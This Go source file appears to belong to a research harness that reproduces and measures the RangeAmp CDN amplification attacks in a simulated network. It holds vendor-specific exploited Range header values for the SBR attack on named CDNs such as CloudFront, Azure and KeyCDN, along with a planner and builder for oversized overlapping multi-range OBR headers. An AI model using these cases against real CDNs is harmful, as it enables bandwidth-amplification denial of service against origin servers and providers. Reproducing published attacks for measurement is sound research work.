package core

import (
	"bytes"
	"context"
	"fmt"
	"io"
	"strconv"
	"strings"

	"repro/internal/httpwire"
	"repro/internal/measure"
	"repro/internal/origin"
	"repro/internal/vendor"
)

// attackUserAgent marks attack requests; it also fixes the header set
// the max-n planner reasons about.
const attackUserAgent = "rangeamp-attack/1.0"

// NewAttackRequest builds the canonical attack request shape.
func NewAttackRequest(target string) *httpwire.Request {
	req := httpwire.NewRequest("GET", target, AttackHost)
	req.Headers.Add("User-Agent", attackUserAgent)
	return req
}

// SBRCase is one vendor's exploited Range case from Table IV: the
// header value to send and how many times to send the same request
// (KeyCDN needs the identical request twice).
type SBRCase struct {
	RangeHeader string
	Repeat      int
}

// SBRExploit returns the Table IV column-2 exploited Range case for a
// vendor and target resource size.
func SBRExploit(vendorName string, resourceSize int64) SBRCase {
	const (
		eightMB = 8 << 20
		tenMB   = 10 * 1000 * 1000
	)
	switch vendorName {
	case "alibaba":
		return SBRCase{RangeHeader: "bytes=-1", Repeat: 1}
	case "azure":
		if resourceSize > eightMB {
			return SBRCase{RangeHeader: "bytes=8388608-8388608", Repeat: 1}
		}
		return SBRCase{RangeHeader: "bytes=0-0", Repeat: 1}
	case "cloudfront":
		return SBRCase{RangeHeader: "bytes=0-0,9437184-9437184", Repeat: 1}
	case "huawei":
		if resourceSize < tenMB {
			return SBRCase{RangeHeader: "bytes=-1", Repeat: 1}
		}
		return SBRCase{RangeHeader: "bytes=0-0", Repeat: 1}
	case "keycdn":
		return SBRCase{RangeHeader: "bytes=0-0", Repeat: 2}
	default:
		return SBRCase{RangeHeader: "bytes=0-0", Repeat: 1}
	}
}

// SBRResult is one SBR attack measurement.
type SBRResult struct {
	Case          SBRCase
	Amplification measure.Amplification
	Responses     []*httpwire.Response
}

// RunSBR performs one SBR attack against the topology's edge using the
// vendor's exploited case and a cache-busting query string, and returns
// the per-segment traffic measurement. cacheBuster must be unique per
// call to force a miss (the Repeat requests intentionally share it).
// It is RunSBRContext with a background context.
func RunSBR(t *SBRTopology, path string, resourceSize int64, cacheBuster string) (*SBRResult, error) {
	return RunSBRContext(context.Background(), t, path, resourceSize, cacheBuster)
}

// PrimeSizeHint teaches the edge the resource size (the Huawei
// F-conditional behaviour needs one warm-up observation, like a real
// edge that has served the path before). The warm-up uses its own
// cache-busting query so it does not seed the cache entry the attack
// will use.
func PrimeSizeHint(t *SBRTopology, path string) error {
	req := NewAttackRequest(path + "?warmup=1")
	if _, err := origin.Fetch(t.Net, t.EdgeAddr, t.ClientSeg, req); err != nil {
		return fmt.Errorf("warm-up: %w", err)
	}
	return nil
}

// OBRCase is one cascaded pair's exploited multi-range case from
// Table V: the first token of the crafted set and the planned n.
type OBRCase struct {
	FirstToken string // "0-", "1-" or "-1024"
	N          int
}

// OBRFirstToken returns the Table V column-3 range-case lead token for
// an FCDN (the remaining n-1 tokens are always "0-").
func OBRFirstToken(fcdnName string) string {
	switch fcdnName {
	case "cdn77":
		return "-1024" // CDN77 strips first<1024 singles; the suffix lead keeps it lazy
	case "cdnsun":
		return "1-" // CDNsun strips 0-anchored leads
	default:
		return "0-"
	}
}

// PlanMaxN computes the largest usable n for a cascaded pair: the
// minimum of the FCDN's inbound limit on the client request, the
// BCDN's inbound limit on the forwarded request, and the BCDN's
// range-count cap (Azure's 64).
func PlanMaxN(fcdn, bcdn *vendor.Profile, target string) OBRCase {
	return planMaxN(fcdn, bcdn, target, nil)
}

// planMaxN is PlanMaxN with extra headers the client request will carry
// beyond the canonical attack shape. Vendor header limits count every
// field, so a traced OBR request must budget for its traceparent header
// or the planned n would push the real request over the limit.
func planMaxN(fcdn, bcdn *vendor.Profile, target string, extra httpwire.Headers) OBRCase {
	firstToken := OBRFirstToken(fcdn.Name)
	client := NewAttackRequest(target)
	for _, h := range extra {
		client.Headers.Add(h.Name, h.Value)
	}
	n := fcdn.Limits.MaxOverlappingRanges(client, firstToken)

	forwarded := client.Clone()
	forwarded.Headers.Set("Connection", "close")
	forwarded.Headers.Add("Via", "1.1 "+fcdn.Name)
	if bn := bcdn.Limits.MaxOverlappingRanges(forwarded, firstToken); bn < n {
		n = bn
	}
	if bcdn.MaxPartsThenIgnore > 0 && n > bcdn.MaxPartsThenIgnore {
		n = bcdn.MaxPartsThenIgnore
	}
	return OBRCase{FirstToken: firstToken, N: n}
}

// BuildOverlappingRange renders "bytes=<firstToken>,0-,0-,…" with n
// ranges total.
func BuildOverlappingRange(firstToken string, n int) string {
	var b strings.Builder
	b.Grow(7 + len(firstToken) + 3*n)
	b.WriteString("bytes=")
	b.WriteString(firstToken)
	for i := 1; i < n; i++ {
		b.WriteString(",0-")
	}
	return b.String()
}

// OBRResult is one OBR attack measurement.
type OBRResult struct {
	Case          OBRCase
	Amplification measure.Amplification // fcdn-bcdn vs bcdn-origin response traffic
	// Response is the client-visible reply's status line and headers.
	// The attacker counts its body into Parts as it streams in and never
	// keeps it, so Body is nil.
	Response *httpwire.Response
	Parts    int // body parts in the client-visible reply
}

// RunOBR performs one OBR attack with the planned (or overridden) n.
// Pass n <= 0 to use the planned maximum. It is RunOBRContext with a
// background context.
func RunOBR(t *OBRTopology, path string, n int) (*OBRResult, error) {
	return RunOBRContext(context.Background(), t, path, n)
}

// CountParts counts multipart body parts by boundary occurrences.
func CountParts(resp *httpwire.Response) int {
	ct, _ := resp.Headers.Get("Content-Type")
	boundary, ok := cutBoundary(ct)
	if !ok {
		if resp.StatusCode == httpwire.StatusPartialContent || resp.StatusCode == httpwire.StatusOK {
			return 1
		}
		return 0
	}
	return bytes.Count(resp.Body, []byte("--"+boundary+"\r\n"))
}

// partCounter counts multipart body parts as the body streams through
// it, exactly as CountParts counts them in the materialized body: by
// occurrences of "--boundary\r\n", so the closing "--boundary--" is not
// a part. A delimiter may straddle two writes, so the counter carries
// the stream's last len(delim)-1 bytes into the next write. Occurrences
// never overlap: the delimiter ends in "\n" and a boundary, being a
// header value, never holds one, so no proper prefix is also a suffix.
type partCounter struct {
	delim []byte // nil until sink sees a multipart head
	tail  []byte
	n     int
}

// sink is the httpwire.BodySink of the count-only attacker: a multipart
// body streams through the counter, any other body is discarded.
func (c *partCounter) sink(head *httpwire.Response, _ int64) io.Writer {
	ct, _ := head.Headers.Get("Content-Type")
	boundary, ok := cutBoundary(ct)
	if !ok {
		return io.Discard
	}
	c.delim = []byte("--" + boundary + "\r\n")
	c.tail = make([]byte, 0, 2*len(c.delim))
	return c
}

func (c *partCounter) Write(p []byte) (int, error) {
	keep := len(c.delim) - 1
	if len(c.tail) > 0 {
		// Any delimiter in tail+p[:keep] straddles the two writes.
		joint := append(c.tail, p[:min(len(p), keep)]...)
		c.n += bytes.Count(joint, c.delim)
		c.tail = joint[:len(c.tail)]
	}
	c.n += bytes.Count(p, c.delim)
	if len(p) >= keep {
		c.tail = append(c.tail[:0], p[len(p)-keep:]...)
	} else if c.tail = append(c.tail, p...); len(c.tail) > keep {
		c.tail = c.tail[:copy(c.tail, c.tail[len(c.tail)-keep:])]
	}
	return len(p), nil
}

// parts returns the part count of the reply whose head is resp: the
// streamed count for a multipart body, CountParts' rule otherwise.
func (c *partCounter) parts(resp *httpwire.Response) int {
	if c.delim == nil {
		return CountParts(resp)
	}
	return c.n
}

func cutBoundary(ct string) (string, bool) {
	if !strings.HasPrefix(strings.ToLower(ct), "multipart/byteranges") {
		return "", false
	}
	if i := strings.Index(ct, "boundary="); i >= 0 {
		return strings.Trim(ct[i+len("boundary="):], `"`), true
	}
	return "", false
}

// CacheBuster renders the i-th cache-busting token.
func CacheBuster(i int) string { return "r" + strconv.Itoa(i) }
